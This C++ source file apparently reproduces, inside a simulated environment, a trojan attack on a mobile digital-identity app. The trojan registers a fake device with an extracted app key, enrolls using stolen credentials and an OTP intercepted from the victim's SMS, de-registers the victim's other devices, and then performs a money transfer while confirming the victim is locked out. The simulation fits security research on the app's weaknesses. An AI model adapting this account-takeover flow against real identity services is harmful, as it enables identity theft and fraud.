//
// trojan.cpp
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
// http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.
//

#include "posteid/trojan.hpp"

#include "json.hpp"

namespace posteid {

using nlohmann::json;

const char* attack_phase_name(AttackPhase p) {
    switch (p) {
        case AttackPhase::FakeRegistration: return "FAKE_REGISTRATION";
        case AttackPhase::FakeEnrollment: return "FAKE_ENROLLMENT";
        case AttackPhase::DeRegistration: return "DE_REGISTRATION";
        case AttackPhase::Finalization: return "FINALIZATION";
    }
    return "?";
}

std::string AttackReport::to_json() const {
    json j;
    j["phase_results"] = json::array();
    for (const auto& r : phase_results) {
        json p;
        p["phase"] = attack_phase_name(r.phase);
        p["outcome"] = r.success ? "SUCCESS" : "FAILED";
        if (r.failing_seq_or_endpoint) p["failing_seq_or_endpoint"] = *r.failing_seq_or_endpoint;
        if (r.status) p["status"] = *r.status;
        j["phase_results"].push_back(p);
    }
    j["overall"] = overall ? "SUCCESS" : "FAILED";
    return j.dump(2);
}

SymmetricKey extract_codk(const AppPackage& package) {
    return package.codk;
}

Fingerprint synthesize_fingerprint(const std::string& os_version, bool rooted,
                                   const std::string& model) {
    return Fingerprint{os_version, rooted, model};
}

// Bounded inbox poll; the OTP SMS arrives synchronously with message 10
// so a short window is enough.
static OtpSource intercept_otp(World& world, const std::string& app_id, int64_t since) {
    return [&world, app_id, since]() -> std::optional<std::string> {
        for (int64_t waited = 0; waited <= 5; ++waited) {
            auto inbox = world.read_sms(app_id, since);
            for (auto it = inbox.rbegin(); it != inbox.rend(); ++it) {
                if (auto code = parse_otp_sms(it->body)) return code;
            }
            world.advance_clock(1);
        }
        return std::nullopt;
    };
}

AttackReport run_attack(const TrojanConfig& cfg, World& world, IdentityServer& server, Rng& rng,
                        const VictimLoginCheck& victim_login) {
    AttackReport report;
    auto fail = [&](AttackPhase phase, std::string where, std::optional<int> status) {
        report.phase_results.push_back({phase, false, std::move(where), status});
        report.overall = false;
        return report;
    };
    auto pass = [&](AttackPhase phase) {
        report.phase_results.push_back({phase, true, std::nullopt, std::nullopt});
    };

    // Phase 1: fake registration, claiming a fresh install on a fake
    // device. Same code path as the genuine app, synthesized inputs.
    ClientSession session;
    session.identity = make_identity(rng.uuid());
    session.keys = derive_keypair(rng.bytes32());
    AppPackage package;
    package.codk = cfg.extracted_codk;
    const Device& host = world.device(cfg.host_device);
    Fingerprint fing = synthesize_fingerprint(host.os_version, host.rooted, host.model);
    FlowResult reg = run_registration(world, cfg.app_id, session, package, fing, rng);
    if (!reg.ok)
        return fail(AttackPhase::FakeRegistration, "seq:" + std::to_string(reg.failing_seq),
                    reg.status);
    pass(AttackPhase::FakeRegistration);

    // Phase 2: fake enrollment with stolen credentials; the otp is
    // intercepted from the victim's inbox.
    int64_t phase_start = world.now();
    FlowResult enr;
    try {
        enr = run_enrollment(world, cfg.app_id, session, cfg.stolen_usr, cfg.stolen_pwd,
                             intercept_otp(world, cfg.app_id, phase_start), cfg.attack_pid, rng);
    } catch (const PermissionDenied&) {
        return fail(AttackPhase::FakeEnrollment, "PERMISSION_DENIED", std::nullopt);
    }
    if (!enr.ok)
        return fail(AttackPhase::FakeEnrollment, "seq:" + std::to_string(enr.failing_seq),
                    enr.status);
    pass(AttackPhase::FakeEnrollment);

    // Phase 3: cut the user out via the device-management screen,
    // keeping the trojan as the only authorized registration.
    const std::string own_hash = to_hex(session.identity.uuid_hash);
    for (const std::string& hash : server.list_registrations(cfg.attack_pid)) {
        if (hash == own_hash) continue;
        const DeviceRegistration* target = server.registration(hash);
        if (!target || target->state == RegState::Disabled) continue;
        Envelope rsp = world.send_http(cfg.app_id, make_disable_app_request(session, hash, rng));
        if (rsp.status != 200) return fail(AttackPhase::DeRegistration, "/disableapp", rsp.status);
    }
    pass(AttackPhase::DeRegistration);

    // Phase 4: act with legal validity, then confirm the victim is out.
    Envelope rsp =
        world.send_http(cfg.app_id, make_level2_action_request(session, "MONEY_TRANSFER", rng));
    if (rsp.status != 200) return fail(AttackPhase::Finalization, "/level2action", rsp.status);
    int victim_status = victim_login ? victim_login() : 401;
    if (victim_status == 200)
        return fail(AttackPhase::Finalization, "victim_login", victim_status);
    pass(AttackPhase::Finalization);

    report.overall = true;
    return report;
}

}  // namespace posteid
